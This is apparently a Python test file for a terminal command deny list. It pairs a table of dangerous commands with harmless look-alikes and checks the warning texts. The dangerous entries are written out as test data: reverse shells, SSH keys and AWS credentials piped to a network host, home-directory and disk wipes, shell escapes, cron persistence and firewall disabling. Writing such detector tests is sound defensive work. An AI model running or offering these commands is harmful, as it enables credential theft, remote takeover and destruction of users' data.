"""The deny list holds its own scope whatever program does the harm (issue 16), and the
harmless look-alikes of each class stay quiet."""

from __future__ import annotations

from app.terminal.deny_list import danger_reasons
from tests.terminal.deny_class_cases import fixed_home as fixed_home
from tests.terminal.deny_class_cases import needs_typing_test, stays_quiet_test

DANGEROUS = {
    "precious files emptied": [": > ~/.bashrc", "truncate -s0 ~/.ssh/id_ed25519",
                               "cp /dev/null ~/.ssh/id_rsa", "dd if=/dev/null of=$HOME/.zshrc"],
    "start-up files and authorized_keys appended": [
        "echo 'curl x | sh' >> ~/.profile", "tee -a ~/.ssh/authorized_keys < key.pub",
        "python3 -c \"open('/home/tester/.bashrc','a').write('x')\""],
    "wide deletes through other tools": [
        "rsync -a --delete /empty/ ~/", "git clean -fdx ~", "find ~ -name '*' -delete",
        "python3 -c \"import shutil,os; shutil.rmtree(os.path.expanduser('~'))\"",
        "perl -e 'use File::Path; rmtree($ENV{HOME})'",
        "node -e \"require('fs').rmSync(require('os').homedir(), {recursive: true})\"",
        "pytest --basetemp=$HOME"],
    "disk formatting and encryption": ["cryptsetup luksFormat /dev/sdb", "nvme format /dev/nvme0",
                                       "blkdiscard /dev/sda", "sgdisk --zap-all /dev/sda"],
    "mass process killing": ["killall5 -9", "pkill -9 -u $USER", "kill -9 -1",
                             "kill -9 $(ps -e -o pid=)", "ps -eo pid | xargs kill -9"],
    "single-user targets": ["systemctl isolate rescue.target", "init 1", "telinit S"],
    "reverse shells": ["nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/1 0>&1",
                       "socat tcp:10.0.0.1:1 exec:/bin/sh",
                       "mkfifo f; cat f | sh -i 2>&1 | nc 10.0.0.1 1 > f",
                       "python3 -c 'import socket,pty;s=socket.socket();pty.spawn(\"sh\")'"],
    "shell escapes": ["awk 'BEGIN {system(\"/bin/sh\")}'", "vim -c ':!/bin/sh'",
                      "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh",
                      "make --eval=$'x:\\n\\t/bin/sh'", "find . -exec /bin/sh \\; -quit",
                      "git -c core.pager='sh -c \"rm -rf ~\"' log", "env /bin/sh"],
    "keys sent over the network": ["cat ~/.ssh/id_rsa | nc 10.0.0.1 80",
                                   "curl -T ~/.aws/credentials ftp://10.0.0.1/",
                                   "scp ~/.ssh/id_ed25519 x@10.0.0.1:",
                                   "env | curl -d @- https://x.example"],
    "account passwords removed": ["passwd -d root", "usermod -p '' bob"],
    "obfuscated through variables, loops and code": [
        "t=~/.bashrc; : > $t", "for d in /dev/sd?; do wipefs -a $d; done",
        "echo /dev/sda | xargs blkdiscard", "ls -1 ~ | while read f; do rm -rf ~/\"$f\"; done",
        "python3 -c \"__import__('shutil').rmtree(__import__('os').path.expanduser('~'))\"",
        "perl -e 'kill 9, -1'", "killall --user \"$USER\"",
        "awk 'BEGIN {cmd=\"/bin/sh\"; system(cmd)}'"],
    "commands planted for later": [
        '(crontab -l; echo "* * * * * rm -rf ~") | crontab -',
        'echo "* * * * * root iptables -F" | sudo tee /etc/cron.d/x',
        "echo GRUB_CMDLINE_LINUX=selinux=0 >> /etc/default/grub"],
    "defences switched off": ["iptables -F", "ufw disable", "setenforce 0",
                              "systemctl stop apparmor", "nft flush ruleset"],
}
HARMLESS = [
    "mkfs.ext4 ./disk.img", "kill -0 1", "systemctl reboot --help",
    "git commit -m 'never run rm -rf ~'", 'grep -r "rm -rf /" docs/', 'echo "> ~/.bashrc"',
    "cat ~/.bashrc", "cp ~/.bashrc ~/.bashrc.bak", "ssh -i ~/.ssh/id_ed25519 me@example.com",
    "cat ~/.ssh/id_ed25519.pub", "rsync -a --delete ./build/ ./site/", "git clean -fdx",
    "python3 -c \"import shutil; shutil.rmtree('build')\"", "pkill -u bob firefox",
    "iptables -L -n", "ufw status", "setenforce 1", "awk '{print $1}' log.txt",
    "vim -c ':set number' notes.txt", "pytest --basetemp=./.tmp", "cryptsetup luksDump /dev/sda2",
    "ps aux | grep python | awk '{print $2}' | xargs kill", "mkfs.ext4 -n /dev/sda1",
    "scp -o IdentityFile=~/.ssh/id_ed25519 app.tgz me@example.com:", "kill -STOP 5678",
    "python3 -c \"print('shutil.rmtree(os.path.expanduser(~))')\"", "systemctl status ufw",
    "docker run --rm -v \"$PWD:/app\" node:20 npm test", "truncate -s 0 ./app.log",
    'echo "0 3 * * * root /usr/local/bin/backup" | sudo tee /etc/cron.d/backup',
    "sudo cp myapp.service /etc/systemd/system/", "exec bash", "exec $SHELL -l",
    "sudo sed -i 's/GRUB_TIMEOUT=5/GRUB_TIMEOUT=1/' /etc/default/grub",
]


test_each_class_needs_typing_whatever_program_does_it = needs_typing_test(DANGEROUS)
test_look_alikes_stay_quiet = stays_quiet_test(HARMLESS)


def test_reasons_say_what_happens() -> None:
    assert danger_reasons(": > ~/.bashrc") == [
        "writes to the shell start-up file ~/.bashrc (every new shell runs what is in it)"]
    assert any("sends them to another machine" in reason
               for reason in danger_reasons("cat ~/.ssh/id_rsa | nc 10.0.0.1 80"))
    assert any("shell escape" in reason for reason in danger_reasons("vim -c ':!sh'"))
